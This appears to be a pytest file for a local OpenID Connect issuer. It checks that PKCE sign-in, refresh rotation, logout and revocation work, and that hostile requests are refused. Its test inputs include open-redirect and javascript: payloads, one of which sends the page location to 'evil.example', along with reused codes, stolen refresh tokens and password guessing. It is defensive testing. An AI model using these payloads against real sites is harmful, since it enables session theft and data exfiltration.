"""The local OIDC issuer behaves like a strict identity platform, over HTTP, as the
portal and the workbench (oidc-client-ts: code + PKCE, refresh tokens, end-session) will
use it: authlib signs in, refreshes, reads userinfo and signs out; every hostile request —
a foreign or `javascript:` redirect, an unknown client, a code or refresh token used by the
wrong client, twice, or at once by two — is refused; a password guessed too often locks
the user."""
import base64
import hashlib
import secrets
import threading
from urllib.parse import parse_qs, parse_qsl, urlsplit

import pytest
import requests

from chalicelib.adapters import tokens
from chalicelib.domain.errors import Unauthorized
from infra.local import demo
from infra.local.oidc import (
    CLIENT_ID,
    CODE_SECONDS,
    FAILURE_WINDOW,
    MAX_FAILURES,
    PORTAL_CLIENT_ID,
    REFRESH_LIFETIME,
    WORKBENCH_CLIENT_ID,
    LocalIssuer,
    demo_clients,
)

PORTAL = "http://127.0.0.1:5173"
CALLBACK = f"{PORTAL}/callback"
HOME = f"{PORTAL}/"
SCOPE = "openid profile offline_access"


@pytest.fixture
def issuer():
    """A fresh issuer per test: sessions and the attempt limit are its state."""
    running = LocalIssuer(demo.USERS).start(poll_interval=0.05)
    yield running
    running.stop()


def _pkce() -> tuple[str, str]:
    verifier = secrets.token_urlsafe(48)
    challenge = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()) \
        .rstrip(b"=").decode()
    return verifier, challenge


def _request(challenge: str, **params) -> dict:
    return {"response_type": "code", "client_id": PORTAL_CLIENT_ID, "redirect_uri": CALLBACK,
            "scope": SCOPE, "state": "st-1", "code_challenge": challenge,
            "code_challenge_method": "S256", **params}


def _sign_in(issuer, user: str = "company", password: str = "demo", **params):
    """The login form posted as a browser does: (verifier, the response)."""
    verifier, challenge = _pkce()
    response = requests.post(f"{issuer.url}/authorize", timeout=5, allow_redirects=False,
                             data={**_request(challenge, **params), "username": user,
                                   "password": password})
    return verifier, response


def _code(response) -> str:
    assert response.status_code == 302, response.text
    return parse_qs(urlsplit(response.headers["Location"]).query)["code"][0]


def _token(issuer, **form):
    return requests.post(f"{issuer.url}/token", data=form, timeout=5)


def _redeem(issuer, code: str, verifier: str, client_id=PORTAL_CLIENT_ID,
            redirect_uri=CALLBACK):
    return _token(issuer, grant_type="authorization_code", code=code, code_verifier=verifier,
                  client_id=client_id, redirect_uri=redirect_uri)


def _refresh(issuer, refresh_token: str, client_id=PORTAL_CLIENT_ID):
    return _token(issuer, grant_type="refresh_token", refresh_token=refresh_token,
                  client_id=client_id)


def _userinfo(issuer, access_token: str):
    return requests.get(f"{issuer.url}/userinfo", timeout=5,
                        headers={"Authorization": f"Bearer {access_token}"})


def _signed_in(issuer, user: str = "company") -> dict:
    verifier, response = _sign_in(issuer, user)
    tokens_ = _redeem(issuer, _code(response), verifier)
    assert tokens_.status_code == 200, tokens_.text
    return tokens_.json()


def test_authlib_signs_in_with_code_and_pkce_refreshes_reads_userinfo_and_signs_out(
        issuer, cfg, monkeypatch):
    """A standard client, by discovery alone: the authorization URL (S256, nonce), the
    user signs in on the issuer's form, the code is exchanged, the ID token validated
    against the JWKS; the refresh token renews both (rotated); userinfo answers the
    access token; end-session redirects to the registered post-logout URI with the
    state, and afterwards the session's tokens no longer work at the issuer."""
    from authlib.common.security import generate_token
    from authlib.integrations.base_client.errors import OAuthError
    from authlib.integrations.requests_client import OAuth2Session
    from joserfc import jwt as jose_jwt
    from joserfc.jwk import KeySet

    meta = requests.get(f"{issuer.url}/.well-known/openid-configuration", timeout=5).json()
    client = OAuth2Session(PORTAL_CLIENT_ID, scope=SCOPE, redirect_uri=CALLBACK,
                           code_challenge_method="S256", token_endpoint_auth_method="none")
    verifier, nonce = generate_token(48), generate_token(20)
    url, state = client.create_authorization_url(meta["authorization_endpoint"],
                                                 code_verifier=verifier, nonce=nonce)
    page = requests.get(url, timeout=5)
    assert page.status_code == 200 and "登录" in page.text
    assert page.headers["X-Frame-Options"] == "DENY"
    signed_in = requests.post(meta["authorization_endpoint"], timeout=5, allow_redirects=False,
                              data={**dict(parse_qsl(urlsplit(url).query)),
                                    "username": "agent", "password": "demo"})
    assert signed_in.status_code == 302
    assert signed_in.headers["Location"].startswith(CALLBACK + "?")
    token = client.fetch_token(meta["token_endpoint"],
                               authorization_response=signed_in.headers["Location"],
                               state=state, code_verifier=verifier)
    assert set(token["scope"].split()) == set(SCOPE.split()) and token["refresh_token"]
    keys = KeySet.import_key_set(requests.get(meta["jwks_uri"], timeout=5).json())

    def valid_id_token(raw: str, **expected) -> dict:
        decoded = jose_jwt.decode(raw, keys,
                                  algorithms=meta["id_token_signing_alg_values_supported"])
        jose_jwt.JWTClaimsRegistry(
            iss={"essential": True, "value": meta["issuer"]},
            aud={"essential": True, "value": PORTAL_CLIENT_ID}, exp={"essential": True},
            **{k: {"essential": True, "value": v} for k, v in expected.items()}
        ).validate(decoded.claims)
        return decoded.claims
    claims = valid_id_token(token["id_token"], nonce=nonce)
    assert (claims["sub"], claims["name"]) == ("person:chen-dai", "陈代办")
    assert "idn" not in claims  # the ID number is for the API alone
    assert tokens.verify(f"Bearer {token['access_token']}", cfg).acts_for == \
        ("91440300MA5FXK7Q3T",)

    signed_in_at = issuer.now()  # the renewal is stamped at another time
    monkeypatch.setattr(issuer, "now", lambda: signed_in_at - 100)
    renewed = client.refresh_token(meta["token_endpoint"],
                                   refresh_token=token["refresh_token"])
    assert renewed["refresh_token"] != token["refresh_token"]
    assert renewed["access_token"] != token["access_token"]
    # OIDC Core §12.2, as oidc-client-ts checks a renewal: the same subject, party and
    # sign-in time, no nonce.
    again = valid_id_token(renewed["id_token"])
    assert {k: again.get(k) for k in ("sub", "azp", "auth_time", "sid", "nonce")} == \
        {**{k: claims.get(k) for k in ("sub", "azp", "auth_time", "sid")}, "nonce": None}
    assert tokens.verify(f"Bearer {renewed['access_token']}", cfg).sub == "person:chen-dai"
    info = client.get(meta["userinfo_endpoint"], timeout=5)  # the session's current token
    assert info.status_code == 200
    assert (info.json()["sub"], info.json()["role"]) == ("person:chen-dai", "applicant")

    bye = requests.get(meta["end_session_endpoint"], timeout=5, allow_redirects=False,
                       params={"id_token_hint": renewed["id_token"],
                               "post_logout_redirect_uri": HOME, "state": "bye-1"})
    assert bye.status_code == 302 and bye.headers["Location"] == f"{HOME}?state=bye-1"
    with pytest.raises(OAuthError) as refused:
        client.refresh_token(meta["token_endpoint"], refresh_token=renewed["refresh_token"])
    assert refused.value.error == "invalid_grant"
    after = client.get(meta["userinfo_endpoint"], timeout=5)
    assert after.status_code == 401 and "invalid_token" in after.headers["WWW-Authenticate"]
    client.close()


def test_the_discovery_document_lists_what_the_issuer_offers_and_each_endpoint_answers(
        issuer):
    meta = requests.get(f"{issuer.url}/.well-known/openid-configuration", timeout=5).json()
    assert {"authorization_code", "refresh_token"} <= set(meta["grant_types_supported"])
    assert {"openid", "profile", "offline_access"} <= set(meta["scopes_supported"])
    assert meta["code_challenge_methods_supported"] == ["S256"]
    for name in ("userinfo_endpoint", "end_session_endpoint", "token_endpoint",
                 "authorization_endpoint", "jwks_uri", "revocation_endpoint"):
        assert meta[name].startswith(issuer.url)
        assert requests.get(meta[name], timeout=5).status_code != 404, name


@pytest.mark.parametrize("redirect_uri", [
    "https://evil.example/steal", "javascript:alert(document.cookie)",
    "JAVASCRIPT:fetch('https://evil.example/'+location)", f"{CALLBACK}/", f"{CALLBACK}?next=x",
    f"{PORTAL}/callback/../steal", "http://127.0.0.1:5174/callback",  # the workbench's
    "http://127.0.0.1:5173.evil.example/callback", ""])
def test_a_redirect_uri_not_registered_for_the_client_gets_an_error_page(issuer,
                                                                          redirect_uri):
    """Never a redirect, and no code issued, even with the right password."""
    _, challenge = _pkce()
    shown = requests.get(f"{issuer.url}/authorize", params=_request(
        challenge, redirect_uri=redirect_uri), timeout=5, allow_redirects=False)
    assert shown.status_code == 400 and "Location" not in shown.headers
    assert "not registered" in shown.text and "<form" not in shown.text
    _, posted = _sign_in(issuer, "supervisor", redirect_uri=redirect_uri)
    assert posted.status_code == 400 and "Location" not in posted.headers
    assert not issuer._codes


@pytest.mark.parametrize("client_id", ["evil", "", "onewindow-portal ", CLIENT_ID])
def test_an_unknown_client_or_one_without_redirects_gets_an_error_page(issuer, client_id):
    _, response = _sign_in(issuer, "supervisor", client_id=client_id)
    assert response.status_code == 400 and "Location" not in response.headers
    assert not issuer._codes


def test_a_bad_request_from_a_registered_client_goes_back_to_it_with_the_error(issuer):
    """Once the client and its redirect URI are known good, errors go back there (RFC
    6749 §4.1.2.1), with the state: no PKCE, plain PKCE, another response type, no
    openid scope, and prompt=none (no session here: the front end must sign in)."""
    _, challenge = _pkce()
    for params, error in (({"code_challenge": ""}, "invalid_request"),
                          ({"code_challenge_method": "plain"}, "invalid_request"),
                          ({"response_type": "token"}, "unsupported_response_type"),
                          ({"scope": "profile"}, "invalid_scope"),
                          ({"scope": "openid admin"}, "invalid_scope"),
                          ({"prompt": "none"}, "login_required")):
        response = requests.get(f"{issuer.url}/authorize", params=_request(challenge, **params),
                                timeout=5, allow_redirects=False)
        assert response.status_code == 302, params
        target = urlsplit(response.headers["Location"])
        assert f"{target.scheme}://{target.netloc}{target.path}" == CALLBACK
        query = parse_qs(target.query)
        assert (query["error"], query["state"]) == ([error], ["st-1"]), params
        assert "code" not in query
    assert not issuer._codes


def test_a_code_is_bound_to_its_client_redirect_uri_and_verifier_and_works_once(issuer):
    """Each hostile redemption spends the code and gets nothing; a code redeemed twice
    ends the session the first redemption started."""
    localhost = "http://localhost:5173/callback"  # registered too, but not the one asked
    for hostile in ({"client_id": WORKBENCH_CLIENT_ID}, {"client_id": CLIENT_ID},
                    {"client_id": "evil"}, {"redirect_uri": localhost},
                    {"redirect_uri": "https://evil.example/steal"},
                    {"verifier": secrets.token_urlsafe(48)}, {"verifier": ""}):
        verifier, response = _sign_in(issuer, "supervisor")
        code = _code(response)
        hostile = dict(hostile)
        refused = _redeem(issuer, code, hostile.pop("verifier", verifier), **hostile)
        assert refused.status_code in (400, 401), hostile
        assert refused.json()["error"] in ("invalid_grant", "invalid_client"), hostile
        assert "access_token" not in refused.json()
        # The rightful client, afterwards: the code is spent.
        assert _redeem(issuer, code, verifier).status_code == 400, hostile

    verifier, response = _sign_in(issuer, "supervisor")
    code = _code(response)
    first = _redeem(issuer, code, verifier)
    assert first.status_code == 200
    again = _redeem(issuer, code, verifier)
    assert again.status_code == 400 and "already used" in again.json()["error_description"]
    assert _refresh(issuer, first.json()["refresh_token"]).status_code == 400
    assert _userinfo(issuer, first.json()["access_token"]).status_code == 401


def test_a_code_is_short_lived(issuer, monkeypatch):
    verifier, response = _sign_in(issuer)
    code = _code(response)
    started = issuer.clock()
    monkeypatch.setattr(issuer, "clock", lambda: started + CODE_SECONDS + 1)
    refused = _redeem(issuer, code, verifier)
    assert refused.status_code == 400 and "expired" in refused.json()["error_description"]


def test_what_has_expired_is_forgotten(issuer, monkeypatch):
    """A stack left running does not pile up codes and refresh tokens."""
    _, response = _sign_in(issuer)
    held = _signed_in(issuer)
    assert len(issuer._codes) == 1 and len(issuer._refresh) == 1
    started = issuer.clock()
    monkeypatch.setattr(issuer, "clock", lambda: started + REFRESH_LIFETIME + 1)
    _, later = _sign_in(issuer)
    assert list(issuer._codes) == [_code(later)]
    assert not issuer._refresh and not issuer._spent_codes
    assert _refresh(issuer, held["refresh_token"]).status_code == 400


def _at_once(call) -> list:
    """Two of `call` released together: their responses."""
    responses, start = [], threading.Barrier(2)

    def one():
        start.wait()
        responses.append(call())
    threads = [threading.Thread(target=one) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sorted(responses, key=lambda response: response.status_code)


def test_two_concurrent_redemptions_of_one_code_give_tokens_once(issuer):
    """Exactly one gets tokens; the other is a code used twice, so the session the
    winner started ends too (its refresh token is refused)."""
    for _ in range(5):
        verifier, response = _sign_in(issuer)
        code = _code(response)
        won, lost = _at_once(lambda code=code, verifier=verifier: _redeem(issuer, code, verifier))
        assert (won.status_code, lost.status_code) == (200, 400)
        assert lost.json()["error"] == "invalid_grant" and "access_token" not in lost.json()
        assert _refresh(issuer, won.json()["refresh_token"]).status_code == 400


def test_a_refresh_token_is_rotated_and_a_spent_one_ends_its_session(issuer):
    first = _signed_in(issuer)
    second = _refresh(issuer, first["refresh_token"])
    assert second.status_code == 200
    second = second.json()
    assert second["refresh_token"] != first["refresh_token"]
    third = _refresh(issuer, second["refresh_token"])
    assert third.status_code == 200
    # The spent one, presented again (a thief's copy): refused, and the whole family ends.
    reused = _refresh(issuer, first["refresh_token"])
    assert reused.status_code == 400 and reused.json()["error"] == "invalid_grant"
    assert _refresh(issuer, third.json()["refresh_token"]).status_code == 400
    assert _userinfo(issuer, third.json()["access_token"]).status_code == 401
    # Another user's session is untouched.
    other = _signed_in(issuer, "lisi")
    assert _refresh(issuer, other["refresh_token"]).status_code == 200


def test_a_refresh_token_works_only_for_its_client_and_never_widens_the_scope(issuer):
    held = _signed_in(issuer)
    assert _refresh(issuer, held["refresh_token"],
                    client_id=WORKBENCH_CLIENT_ID).status_code == 400
    assert _refresh(issuer, held["refresh_token"]).status_code == 400  # its session ended
    held = _signed_in(issuer)
    wider = _token(issuer, grant_type="refresh_token", refresh_token=held["refresh_token"],
                   client_id=PORTAL_CLIENT_ID, scope="openid admin")
    assert wider.status_code == 400 and wider.json()["error"] == "invalid_scope"
    # Without offline_access there is no refresh token at all.
    verifier, response = _sign_in(issuer, scope="openid profile")
    assert "refresh_token" not in _redeem(issuer, _code(response), verifier).json()


def test_two_concurrent_refreshes_with_one_refresh_token_succeed_once(issuer):
    """Exactly one is renewed; the other presented a spent token, so (as for any reuse)
    the session ends: a front end renews one refresh at a time."""
    for _ in range(5):
        held = _signed_in(issuer)
        won, lost = _at_once(lambda held=held: _refresh(issuer, held["refresh_token"]))
        assert (won.status_code, lost.status_code) == (200, 400)
        assert lost.json()["error"] == "invalid_grant" and "access_token" not in lost.json()
        assert _refresh(issuer, won.json()["refresh_token"]).status_code == 400


def test_end_session_redirects_only_to_the_clients_registered_uris(issuer):
    """A refused sign-out changes nothing: no redirect, and the session goes on."""
    held = _signed_in(issuer)
    logout = f"{issuer.url}/logout"
    for params in ({"post_logout_redirect_uri": "https://evil.example/bye"},
                   {"post_logout_redirect_uri": "javascript:alert(1)"},
                   {"post_logout_redirect_uri": "http://127.0.0.1:5174/"},  # the workbench's
                   {"post_logout_redirect_uri": HOME, "client_id": WORKBENCH_CLIENT_ID},
                   {"post_logout_redirect_uri": HOME, "id_token_hint": held["access_token"]},
                   {"post_logout_redirect_uri": HOME, "id_token_hint": "junk"},
                   {"post_logout_redirect_uri": HOME, "id_token_hint": ""}):
        response = requests.get(logout, params={"id_token_hint": held["id_token"], **params},
                                timeout=5, allow_redirects=False)
        assert response.status_code == 400 and "Location" not in response.headers, params
    assert _userinfo(issuer, held["access_token"]).status_code == 200
    renewed = _refresh(issuer, held["refresh_token"])
    assert renewed.status_code == 200
    # Without a post-logout URI: a signed-out page, and the session is over.
    response = requests.post(logout, data={"id_token_hint": held["id_token"]}, timeout=5)
    assert response.status_code == 200 and "已退出" in response.text
    assert _refresh(issuer, renewed.json()["refresh_token"]).status_code == 400


@pytest.mark.parametrize("where", ["form", "password grant"])
def test_too_many_wrong_passwords_lock_the_user_for_a_while(issuer, monkeypatch, where):
    """MAX_FAILURES wrong passwords within FAILURE_WINDOW, on the form or the password
    grant (they count together): the right password is refused with a clear error until
    the window has passed; other users sign in meanwhile."""
    def attempt(password: str, user: str = "scjg"):
        if where == "form":
            return _sign_in(issuer, user, password)[1]
        return _token(issuer, grant_type="password", username=user, password=password)
    if where == "form":  # the other way counts too
        other = _token(issuer, grant_type="password", username="scjg", password="x")
    else:
        other = _sign_in(issuer, "scjg", "x")[1]
    assert other.status_code == 400
    for _ in range(MAX_FAILURES - 1):
        assert attempt("guess").status_code == 400
    locked = attempt("demo")
    if where == "form":
        assert locked.status_code == 429 and "locked" in locked.text
        assert "Location" not in locked.headers and int(locked.headers["Retry-After"]) > 0
    else:
        assert locked.status_code == 400 and "locked" in locked.json()["error_description"]
    assert attempt("demo", "scjg2").status_code in (200, 302)
    started = issuer.clock()
    monkeypatch.setattr(issuer, "clock", lambda: started + FAILURE_WINDOW + 1)
    assert attempt("demo").status_code in (200, 302)


def test_the_password_grant_is_for_scripts_only(issuer, cfg):
    """The README's one curl (no client id: the scripts' client) still works; a browser
    client may not use it."""
    script = _token(issuer, grant_type="password", username="clerk", password="demo")
    assert script.status_code == 200
    assert tokens.verify(f"Bearer {script.json()['access_token']}", cfg).dept == "ZWFW"
    with pytest.raises(Unauthorized):  # the ID token it also gets is no access token
        tokens.verify(f"Bearer {script.json()['id_token']}", cfg)
    portal = _token(issuer, grant_type="password", username="clerk", password="demo",
                    client_id=PORTAL_CLIENT_ID)
    assert portal.status_code == 400 and portal.json()["error"] == "unauthorized_client"


def test_the_registered_front_ends_may_call_the_issuer_from_the_browser(issuer):
    """CORS for the clients' origins only (discovery, token, userinfo with its
    Authorization header's preflight)."""
    preflight = requests.options(f"{issuer.url}/userinfo", timeout=5, headers={
        "Origin": PORTAL, "Access-Control-Request-Method": "GET",
        "Access-Control-Request-Headers": "authorization"})
    assert preflight.headers["Access-Control-Allow-Origin"] == PORTAL
    assert "Authorization" in preflight.headers["Access-Control-Allow-Headers"]
    meta = requests.get(f"{issuer.url}/.well-known/openid-configuration", timeout=5,
                        headers={"Origin": "http://localhost:5174"})
    assert meta.headers["Access-Control-Allow-Origin"] == "http://localhost:5174"
    for origin in ("https://evil.example", "null"):
        assert "Access-Control-Allow-Origin" not in requests.options(
            f"{issuer.url}/token", headers={"Origin": origin}, timeout=5).headers


def test_the_front_ends_origins_are_the_stacks_to_choose(issuer):
    """`make run` registers the portal and workbench where their dev servers run
    (--portal-origins / OW_PORTAL_ORIGINS): those are taken, the defaults then are not."""
    moved = LocalIssuer(demo.USERS, clients=demo_clients(
        [" https://portal.test:8443/ "], ["http://127.0.0.1:9000"])).start(poll_interval=0.05)
    try:
        _, response = _sign_in(moved, redirect_uri="https://portal.test:8443/callback")
        assert response.headers["Location"].startswith("https://portal.test:8443/callback?")
        assert _sign_in(moved)[1].status_code == 400  # the default's callback
        # The workbench: at /staff/ on the portal's origins, and at its own dev server's root.
        assert moved.clients[WORKBENCH_CLIENT_ID].post_logout_redirect_uris == \
            ("https://portal.test:8443/staff/", "http://127.0.0.1:9000/")
        assert moved.clients[WORKBENCH_CLIENT_ID].redirect_uris == \
            ("https://portal.test:8443/staff/callback", "http://127.0.0.1:9000/callback")
    finally:
        moved.stop()


def test_junk_tokens_at_userinfo_and_end_session_are_refused_not_crashed_on(issuer):
    header = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"at+jwt","kid":["x"]}') \
        .rstrip(b"=").decode()
    for junk in (f"{header}.e30.sig", "a.b.c", "x"):
        response = _userinfo(issuer, junk)
        assert response.status_code == 401 and response.json()["error"] == "invalid_token"
        assert requests.get(f"{issuer.url}/logout", params={"id_token_hint": junk},
                            timeout=5).status_code == 400


def test_a_revoked_token_ends_its_session_but_only_for_its_own_client(issuer):
    """RFC 7009, as oidc-client-ts's revokeTokensOnSignout uses it: the refresh (or the
    access) token handed back ends the session; another client cannot revoke it; an
    unknown token is answered 200 and changes nothing."""
    meta = requests.get(f"{issuer.url}/.well-known/openid-configuration", timeout=5).json()
    revoke = meta["revocation_endpoint"]
    held = _signed_in(issuer)
    assert requests.post(revoke, timeout=5, data={"token": "unknown",
                                                  "client_id": PORTAL_CLIENT_ID}).ok
    assert requests.post(revoke, timeout=5, data={"token": held["refresh_token"],
                                                  "client_id": WORKBENCH_CLIENT_ID}).ok
    assert requests.post(revoke, timeout=5, data={"token": held["access_token"],
                                                  "client_id": WORKBENCH_CLIENT_ID}).ok
    renewed = _refresh(issuer, held["refresh_token"])
    assert renewed.status_code == 200
    assert requests.post(revoke, timeout=5, data={"token": renewed.json()["refresh_token"],
                                                  "client_id": PORTAL_CLIENT_ID}).ok
    assert _refresh(issuer, renewed.json()["refresh_token"]).status_code == 400
    assert _userinfo(issuer, renewed.json()["access_token"]).status_code == 401
    other = _signed_in(issuer, "lisi")
    assert requests.post(revoke, timeout=5, data={"token": other["access_token"],
                                                  "client_id": PORTAL_CLIENT_ID}).ok
    assert _refresh(issuer, other["refresh_token"]).status_code == 400

